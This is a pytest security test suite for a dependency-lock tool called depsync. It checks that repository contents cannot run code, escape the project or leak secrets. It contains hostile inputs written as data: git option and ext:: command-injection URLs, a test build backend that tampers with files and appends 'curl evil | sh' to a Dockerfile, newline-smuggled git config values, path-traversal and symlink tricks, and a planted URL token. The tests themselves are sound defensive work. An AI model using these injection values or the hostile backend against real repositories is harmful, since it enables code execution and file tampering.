"""nothing in a repository runs code, escapes the project or leaks a secret.

One test (or a few) per hole, each on real git, real uv and, where the hole is in the
container, the real engine. Each asserts that the specific harm did not happen: the
marker file is never created, the outside file is byte-identical, the token is absent
from every output, files are byte-identical after a signal, nothing is left running.
The bounds (hole 8) are in test_bounds.py, the container defaults (hole 9) in
test_container_hardening.py, redaction's patterns in test_redact.py.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import IMAGE, env_for, git, init_repo, write_files
from support import build_backend
from support import depsync_in as depsync
from uvprojects import LocalMaterial

SHA_A = "a" * 40
SHA_B = "b" * 40
LOCK = 'version = 1\nrevision = 3\nrequires-python = ">=3.10"\n\n[[package]]\nname = "demo"\nversion = "0.1.0"\nsource = { virtual = "." }\n'


def one_error_line(result: subprocess.CompletedProcess[str]) -> str:
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("depsync: error"), result.stderr
    return last


def demo_pyproject(source: str, depsync_table: str = 'owner-ref = "dev"\nupstream-ref = "main"\n', dependencies: str = '"evil"') -> str:
    return (
        '[project]\nname = "demo"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'
        f"dependencies = [{dependencies}]\n\n[tool.uv.sources]\n{source}\n\n[tool.depsync]\n{depsync_table}"
    )


# -- 1. option injection into git --------------------------------------------------------------

@pytest.mark.parametrize(
    "url",
    [
        "--upload-pack=touch {marker};",
        "-u touch {marker}",
        "ext::sh -c touch% {marker}",
        "git+ext::sh -c touch% {marker}",
        "fd::17",
    ],
)
def test_a_git_url_never_becomes_an_option_or_a_command(tmp_path: Path, url: str) -> None:
    marker = tmp_path / "PWNED"
    url = url.format(marker=marker)
    repo = init_repo(tmp_path / "repo", {"pyproject.toml": demo_pyproject(f'evil = {{ git = "{url}", rev = "{SHA_A}" }}'), "uv.lock": LOCK}, branch="dev")
    git(repo, "checkout", "-q", "-b", "main")
    (repo / "pyproject.toml").write_text(demo_pyproject(f'evil = {{ git = "{url}", rev = "{SHA_B}" }}'))
    git(repo, "commit", "-qam", "main moves the pin")
    git(repo, "checkout", "-q", "dev")
    env = dict(os.environ, XDG_CACHE_HOME=str(tmp_path / "cache"))
    # --dry-run used to run `git fetch <url>` too (the rev-order evidence)
    result = depsync(repo, "reconcile", "--dry-run", "--no-merge", "--dev", "dev", "--main", "main", env=env)
    assert result.returncode in (0, 1), result.stderr
    assert not marker.exists()
    result = depsync(repo, "reconcile", "--no-lock", "--no-merge", "--dev", "dev", "--main", "main", env=env)
    assert not marker.exists()


def test_a_ref_from_config_never_becomes_an_option(tmp_path: Path) -> None:
    out = tmp_path / "written-by-git"
    table = f'owner-ref = "--output={out}"\nupstream-ref = "main"\n'
    repo = init_repo(tmp_path / "repo", {"pyproject.toml": demo_pyproject('evil = { path = "evil" }', table), "uv.lock": LOCK}, branch="dev")
    # reconcile and guard read the owner ref's committed config (the operator names the ref)
    env = dict(os.environ, DEPSYNC_OWNER_REF="dev")
    for args in (("check",), ("reconcile", "--dry-run"), ("guard",)):
        result = depsync(repo, *args, env=env)
        assert "is not a git ref" in one_error_line(result)
    # and the operator's own names are validated the same way
    for args in (("reconcile", "--dry-run"), ("guard",)):
        result = depsync(repo, *args, env=dict(os.environ, DEPSYNC_OWNER_REF=f"--output={out}"))
        assert "is not a git ref" in one_error_line(result)
    assert not out.exists()


# -- 2. the runners' work copy shares no inode and nothing writes back ---------------------------

HOSTILE_BACKEND = build_backend(r'''
import os

def _attack():
    # everything a build backend could do to files it finds in its working directory
    with open("README.md", "w") as handle:
        handle.write("PWNED by the build backend\n")
    with open("docker/Dockerfile.ci.dev", "a") as handle:
        handle.write("RUN curl evil | sh\n")
    os.chmod("data.txt", 0o6777)
    if os.path.exists("fail.flag"):
        raise RuntimeError("the backend fails after writing")
''', hook="_attack", name="demo")


def hostile_project(root: Path, fail: bool = False) -> Path:
    write_files(
        root,
        {
            "pyproject.toml": (
                '[project]\nname = "demo"\ndynamic = ["version"]\nrequires-python = ">=3.10"\ndependencies = []\n\n'
                '[build-system]\nrequires = []\nbuild-backend = "hostile"\nbackend-path = ["_backend"]\n'
            ),
            **({"fail.flag": ""} if fail else {}),
            "_backend/hostile.py": HOSTILE_BACKEND,
            "README.md": "the caller's readme\n",
            "data.txt": "data\n",
            "docker/Dockerfile.ci.dev": "FROM scratch\n",
        },
    )
    os.chmod(root / "data.txt", 0o644)
    return root


def tree_state(root: Path) -> dict[str, tuple[bytes, int, int]]:
    return {str(p.relative_to(root)): (p.read_bytes(), p.stat().st_mode, p.stat().st_ino) for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


@pytest.mark.parametrize("fail", [False, True], ids=["lock-succeeds", "backend-fails"])
def test_a_build_backend_cannot_write_the_callers_files_local(tmp_path: Path, material: LocalMaterial, fail: bool) -> None:
    root = hostile_project(tmp_path / "proj", fail)
    before = {k: v for k, v in tree_state(root).items() if k != "uv.lock"}
    env = env_for(material)
    result = depsync(root, "lock", "--runner", "local", env=env)
    assert result.returncode == (2 if fail else 0), result.stderr
    after = {k: v for k, v in tree_state(root).items() if k != "uv.lock"}
    assert after == before  # bytes, mode (no setuid) and inode of every file the caller had
    assert not [p for p in tmp_path.iterdir() if "depsync" in p.name]  # the sibling work copy is gone


@pytest.mark.docker
@pytest.mark.parametrize("fail", [False, True], ids=["lock-succeeds", "backend-fails"])
def test_a_build_backend_cannot_write_the_callers_files_docker(engine, tmp_path: Path, fail: bool) -> None:  # type: ignore[no-untyped-def]
    root = hostile_project(tmp_path / "proj", fail)
    before = {k: v for k, v in tree_state(root).items() if k != "uv.lock"}
    env = dict(os.environ, XDG_CACHE_HOME=str(tmp_path / "cache"))
    result = depsync(root, "lock", "--runner", "docker", "--image", IMAGE, env=env)
    assert result.returncode == (2 if fail else 0), result.stderr
    after = {k: v for k, v in tree_state(root).items() if k != "uv.lock"}
    assert after == before


def test_the_work_copy_shares_no_inode(tmp_path: Path) -> None:
    from depsync.shell.runners.workcopy import copy_project

    root = hostile_project(tmp_path / "proj")
    copy = copy_project(root, tmp_path / "copy")
    for file in root.rglob("*"):
        if file.is_file():
            twin = copy / file.relative_to(root)
            assert twin.read_bytes() == file.read_bytes()
            assert twin.stat().st_ino != file.stat().st_ino
            assert twin.stat().st_mode == file.stat().st_mode


# -- 3. install: no symlinked .gitattributes, no line injection ---------------------------------

def test_install_refuses_a_symlinked_gitattributes(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("precious\n")
    repo = init_repo(tmp_path / "repo", {"pyproject.toml": demo_pyproject('evil = { path = "evil" }'), "uv.lock": LOCK})
    (repo / ".gitattributes").symlink_to(outside)
    assert "symlink" in one_error_line(depsync(repo, "install"))
    assert outside.read_text() == "precious\n"
    assert "depsync" not in git(repo, "config", "--local", "--list")


def test_install_refuses_paths_with_newlines(tmp_path: Path) -> None:
    table = 'lock = "uv.lock\\n* merge=evil\\n[core]\\n\\tfsmonitor = touch pwned"\n'
    repo = init_repo(tmp_path / "repo", {"pyproject.toml": demo_pyproject('evil = { path = "evil" }', table), "uv.lock": LOCK})
    assert "control characters" in one_error_line(depsync(repo, "install"))
    assert not (repo / ".gitattributes").exists()
    assert "fsmonitor" not in git(repo, "config", "--local", "--list")


def test_install_quotes_a_path_with_a_space(tmp_path: Path) -> None:
    table = 'lock = "locks/my lock.lock"\n'
    repo = init_repo(tmp_path / "repo", {"pyproject.toml": demo_pyproject('evil = { path = "evil" }', table), "locks/my lock.lock": LOCK})
    assert depsync(repo, "install", "--command", "depsync").returncode == 0
    assert git(repo, "check-attr", "merge", "--", "locks/my lock.lock").endswith("merge: depsync-lock")


# -- 4. secrets in lock tables --------------------------------------------------------------------

URL_TOKEN = "PlantedUrlToken0042"


def url_lock(version: str) -> str:
    url = f"http://ci:{URL_TOKEN}@files.example.invalid/pkgs/secret_pkg-{version}-py3-none-any.whl"
    return (
        LOCK
        + f'\n[package.metadata]\nrequires-dist = [{{ name = "secret-pkg", url = "{url}" }}]\n'
        + f'\n[[package]]\nname = "secret-pkg"\nversion = "{version}"\nsource = {{ url = "{url}" }}\n'
        + f'wheels = [{{ url = "{url}", hash = "sha256:{"0" * 64}" }}]\n'
    )


def test_lock_tables_never_print_credentials_from_url_sources(tmp_path: Path) -> None:
    old, new = tmp_path / "old.lock", tmp_path / "new.lock"
    old.write_text(url_lock("1.0"))
    new.write_text(url_lock("2.0"))
    outputs = []
    for fmt in ("human", "markdown", "json"):
        result = depsync(tmp_path, "diff", str(old), str(new), "--format", fmt)
        assert result.returncode == 0, result.stderr
        assert "secret-pkg" in result.stdout
        outputs.append(result.stdout + result.stderr)
    everything = "\n".join(outputs)
    assert "files.example.invalid" in everything or "1.0" in everything
    assert URL_TOKEN not in everything


# -- 5. SIGTERM and SIGHUP unwind like SIGINT, in every phase -------------------------------------

WATCHED = ("pyproject.toml", "uv.lock", ".github/CODEOWNERS")


def repo_state(repo: Path) -> dict[str, object]:
    files = {p: (repo / p).read_bytes() if (repo / p).exists() else None for p in WATCHED}
    leftovers = sorted(p.name for p in (*repo.parent.iterdir(), *repo.rglob("*")) if "depsync" in p.name and p.name != "depsync")
    return {"files": files, "unmerged": git(repo, "diff", "--name-only", "--diff-filter=U"), "status": git(repo, "status", "--porcelain"), "leftovers": leftovers}


@pytest.fixture
def merging(small_repo: Path) -> Path:
    subprocess.run(["git", "-C", str(small_repo), "merge", "-q", "main"], capture_output=True)
    return small_repo


SIGNAL_EXIT = {"sigterm": 143, "sighup": 129, "sigint": 130}


@pytest.mark.parametrize("kind", sorted(SIGNAL_EXIT))
@pytest.mark.parametrize("point", ["reconcile:before-write", "reconcile:after-write", "reconcile:after-uv", "reconcile:after-stage", "write:before-replace"])
def test_reconcile_unwinds_on_every_signal_in_every_phase(merging: Path, material: LocalMaterial, tmp_path: Path, point: str, kind: str) -> None:
    before = repo_state(merging)
    env = dict(env_for(material), DEPSYNC_FAULT=f"{point}:{kind}")
    result = depsync(merging, "reconcile", "--dev", "dev", "--no-fetch", "--runner", "local", "--summary", str(tmp_path / "pr.md"), env=env)
    assert result.returncode == SIGNAL_EXIT[kind], result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert repo_state(merging) == before
    assert not (tmp_path / "pr.md").exists()


@pytest.mark.parametrize("kind", ["sigterm", "sighup"])
@pytest.mark.parametrize("point", ["lock:after-uv", "write:before-replace"])
def test_lock_unwinds_on_every_signal(small_repo: Path, material: LocalMaterial, point: str, kind: str) -> None:
    (small_repo / "pyproject.toml").write_text((small_repo / "pyproject.toml").read_text().replace('"alpha"', '"alpha<2"'))
    before = repo_state(small_repo)
    env = dict(env_for(material), DEPSYNC_FAULT=f"{point}:{kind}")
    result = depsync(small_repo, "lock", "--runner", "local", env=env)
    assert result.returncode == SIGNAL_EXIT[kind], result.stderr
    assert repo_state(small_repo) == before


def slow_uv(directory: Path, tag: str) -> Path:
    """A uv on PATH whose `lock` starts a grandchild and sleeps: what a build backend under uv looks like."""
    real = subprocess.run(["which", "uv"], capture_output=True, text=True, check=True).stdout.strip()
    directory.mkdir(parents=True, exist_ok=True)
    sleeper = directory / tag  # a sleep whose command line carries the tag, for ps
    sleeper.write_bytes(Path("/bin/sleep").read_bytes())
    sleeper.chmod(0o755)
    script = directory / "uv"
    script.write_text(
        "#!/bin/sh\n"
        f'case "$1" in lock) {sleeper} 300 & echo started >&2; {sleeper} 301; exit 0;; esac\n'
        f'exec {real} "$@"\n'
    )
    script.chmod(0o755)
    return directory


def running_with(tag: str) -> list[str]:
    out = subprocess.run(["ps", "-eww", "-o", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if tag in line and "ps -eww" not in line]


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_a_signal_during_a_local_relock_kills_uv_and_its_children(small_repo: Path, material: LocalMaterial, tmp_path: Path, signum: int) -> None:
    tag = f"depsync-orphan-probe-{signum}-{os.getpid()}"
    bin_dir = slow_uv(tmp_path / "bin", tag)
    subprocess.run(["git", "-C", str(small_repo), "merge", "-q", "main"], capture_output=True)
    before = repo_state(small_repo)
    env = dict(env_for(material), PATH=f"{bin_dir}:{os.environ['PATH']}")
    child = subprocess.Popen([sys.executable, "-m", "depsync", "reconcile", "--dev", "dev", "--no-fetch", "--runner", "local"], cwd=small_repo, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 20
    while not running_with(tag) and time.monotonic() < deadline:
        time.sleep(0.1)
    if not running_with(tag):
        child.kill()
        pytest.fail("uv never started: " + "".join(child.communicate()))
    child.send_signal(signum)
    _, stderr = child.communicate(timeout=60)
    assert child.returncode == 128 + signum, stderr
    time.sleep(0.3)
    assert running_with(tag) == []  # neither uv nor what it started outlived depsync
    assert repo_state(small_repo) == before  # files, index, and no work copy left


# -- 6. every path depsync writes or reads stays in the project ----------------------------------

@pytest.mark.parametrize("lock_path", ["../victim", "{outside}", "sub/../../victim"])
def test_a_config_path_outside_the_project_is_refused(tmp_path: Path, material: LocalMaterial, small_repo: Path, lock_path: str) -> None:
    victim = small_repo.parent / "victim"
    victim.write_text("precious\n")
    lock_path = lock_path.format(outside=victim)
    text = (small_repo / "pyproject.toml").read_text() + f'\n[tool.depsync]\nlock = "{lock_path}"\nowner-ref = "dev"\n'
    (small_repo / "pyproject.toml").write_text(text)
    git(small_repo, "commit", "-qam", "lock elsewhere")
    for args in (("lock", "--runner", "local"), ("check",), ("reconcile", "--no-fetch", "--dev", "sync", "--main", "main", "--runner", "local")):
        line = one_error_line(depsync(small_repo, *args, env=env_for(material)))
        assert "leaves the project" in line or "is absolute" in line
    assert victim.read_text() == "precious\n"


def test_a_symlinked_lock_is_never_written_through(tmp_path: Path, material: LocalMaterial, small_repo: Path) -> None:
    victim = tmp_path / "victim.lock"
    victim.write_bytes((small_repo / "uv.lock").read_bytes())
    (small_repo / "uv.lock").unlink()
    (small_repo / "uv.lock").symlink_to(victim)
    (small_repo / "pyproject.toml").write_text((small_repo / "pyproject.toml").read_text().replace('"alpha"', '"alpha<2"'))
    before = victim.read_bytes()
    assert "symlink" in one_error_line(depsync(small_repo, "lock", "--runner", "local", env=env_for(material)))
    assert victim.read_bytes() == before


def test_a_hostile_uv_version_never_names_a_path(tmp_path: Path, material: LocalMaterial, small_repo: Path) -> None:
    cache = tmp_path / "cache"
    escape = tmp_path / "x"
    write_files(small_repo, {"docker/Dockerfile.ci.dev": "ARG UV_VERSION=../../../x\nFROM debian\nRUN uv sync --locked\n"})
    env = dict(env_for(material), XDG_CACHE_HOME=str(cache))
    line = one_error_line(depsync(small_repo, "lock", "--runner", "local", env=env))
    assert "not a uv release number" in line and "Dockerfile.ci.dev:1" in line
    assert not escape.exists() and not (cache / "x").exists()
    check = depsync(small_repo, "check", "--format", "json", env=env)
    assert '"uv-version-mismatch"' in check.stdout and "not a uv release number" in check.stdout


def test_workspace_members_outside_the_project_are_not_read(tmp_path: Path) -> None:
    outside = tmp_path / "neighbour"
    outside.mkdir()
    (outside / "pyproject.toml").write_text("this is [not toml\n")  # reading it would be exit 2
    project = tmp_path / "project"
    write_files(project, {"pyproject.toml": '[project]\nname = "demo"\nversion = "0.1.0"\n\n[tool.uv.workspace]\nmembers = ["../*"]\n', "uv.lock": LOCK})
    result = depsync(project, "check")
    assert result.returncode in (0, 1), result.stderr


def test_ref_reads_do_not_follow_work_tree_symlinks(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "repo", {"pyproject.toml": demo_pyproject('evil = { path = "evil" }'), "uv.lock": LOCK, "other/uv.lock": "this is [not toml\n"}, branch="dev")
    (repo / "uv.lock").unlink()
    (repo / "uv.lock").symlink_to(repo / "other" / "uv.lock")  # the work tree's link must not redirect a --ref read
    result = depsync(repo, "check", "--ref", "HEAD")
    assert result.returncode in (0, 1), result.stderr


def test_a_work_tree_file_linking_outside_is_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT = [\n")
    project = tmp_path / "project"
    write_files(project, {"pyproject.toml": '[project]\nname = "demo"\nversion = "0.1.0"\n', "docker/.keep": ""})
    (project / "uv.lock").symlink_to(secret)
    result = depsync(project, "check")
    assert "outside the project" in one_error_line(result)
    assert "TOP-SECRET" not in result.stdout + result.stderr


# -- 7. no exit 2 after writing --------------------------------------------------------------------

def test_reconcile_with_a_bad_dev_dockerfile_writes_nothing(merging: Path, material: LocalMaterial) -> None:
    git(merging, "merge", "--abort")
    git(merging, "checkout", "-q", "dev")
    write_files(merging, {"docker/Dockerfile.ci.dev": "FROM debian\nRUN <<EOF\nnever closed\n", "pyproject.toml": (merging / "pyproject.toml").read_text() + '\n[tool.depsync]\ndockerfiles = ["docker/Dockerfile.ci.dev"]\nowner-ref = "dev"\n'})
    git(merging, "add", "-A")
    git(merging, "commit", "-qm", "dev: a Dockerfile that does not parse")
    git(merging, "checkout", "-q", "sync")
    git(merging, "reset", "-q", "--hard", "dev")
    subprocess.run(["git", "-C", str(merging), "merge", "-q", "main"], capture_output=True)
    before = repo_state(merging)
    result = depsync(merging, "reconcile", "--no-lock", "--no-fetch", env=env_for(material))
    one_error_line(result)
    assert repo_state(merging) == before


def test_lock_with_a_summary_directory_changes_nothing(small_repo: Path, material: LocalMaterial, tmp_path: Path) -> None:
    (small_repo / "pyproject.toml").write_text((small_repo / "pyproject.toml").read_text().replace('"alpha"', '"alpha<2"'))
    before = repo_state(small_repo)
    assert "is a directory" in one_error_line(depsync(small_repo, "lock", "--runner", "local", "--summary", str(tmp_path), env=env_for(material)))
    assert repo_state(small_repo) == before


# -- 8. bounds: an input too large to read is refused before it is parsed -------------------------

def test_an_oversized_lock_is_one_line_and_exit_2(tmp_path: Path) -> None:
    from depsync.core.limits import MAX_INPUT_BYTES

    project = tmp_path / "project"
    write_files(project, {"pyproject.toml": '[project]\nname = "demo"\nversion = "0.1.0"\n'})
    with open(project / "uv.lock", "wb") as handle:  # sparse: costs no disk
        handle.truncate(MAX_INPUT_BYTES + 1)
    line = one_error_line(depsync(project, "check"))
    assert "uv.lock" in line and "reads at most" in line
